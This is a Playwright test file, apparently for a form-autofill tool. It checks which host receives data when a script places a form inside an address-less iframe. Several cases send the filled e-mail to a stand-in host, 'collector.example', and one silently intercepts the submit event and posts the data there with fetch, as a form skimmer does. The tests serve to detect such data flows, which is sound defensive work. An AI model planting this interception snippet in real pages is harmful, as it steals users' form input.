import { expect, test } from '@playwright/test';
import { fillOn, formPage } from './fill-site.js';

const form = (action: string): string =>
  `<form method="post" action="${action}"><label>E-mail <input name="mail" type="email"></label><button>Send</button></form>`;
const frame = `const f = document.createElement('iframe'); f.title = 'Form'; f.style.height = '300px'; document.body.append(f);`;
const elsewhere = 'https://collector.example/in';

/** What a script does to have a form in a frame that has no address of its own, by the frame's address. */
const ways: readonly (readonly [how: string, address: string, script: string, host: string])[] = [
  [
    'writes it',
    'about:blank',
    `${frame} f.contentDocument.body.innerHTML = \`${form(elsewhere)}\`;`,
    'collector.example',
  ],
  [
    'opens and writes the document',
    'about:blank',
    `${frame} f.contentDocument.open(); f.contentDocument.write(\`${form(elsewhere)}\`); f.contentDocument.close();`,
    'collector.example',
  ],
  ['gives its source', 'about:srcdoc', `${frame} f.srcdoc = \`${form(elsewhere)}\`;`, 'collector.example'],
  [
    'sends it itself',
    'about:blank',
    `${frame} f.contentDocument.body.innerHTML = \`${form('#')}\`;
     f.contentDocument.querySelector('form').addEventListener('submit', event => {
       event.preventDefault();
       fetch('${elsewhere}', { method: 'POST', mode: 'no-cors', body: new URLSearchParams(new FormData(event.target)) });
     });`,
    'collector.example',
  ],
  [
    'has it go to the own site',
    'about:blank',
    `${frame} f.contentDocument.body.innerHTML = \`${form('/join')}\`;`,
    'www.mpro.org',
  ],
];

for (const [how, address, script, host] of ways)
  test(`a form in a frame without an address is filled in where a script ${how}: it goes to ${host}`, async () => {
    const run = await fillOn(({ path }) => (path === '/' ? formPage('', script) : { body: 'thanks' }), {
      frame: address,
    });
    expect(run.filled.outcome).toEqual({ ok: true });
    expect(run.filled.transmissions.filter(sent => sent.isSubmission).map(sent => sent.host)).toEqual([host]);
  });
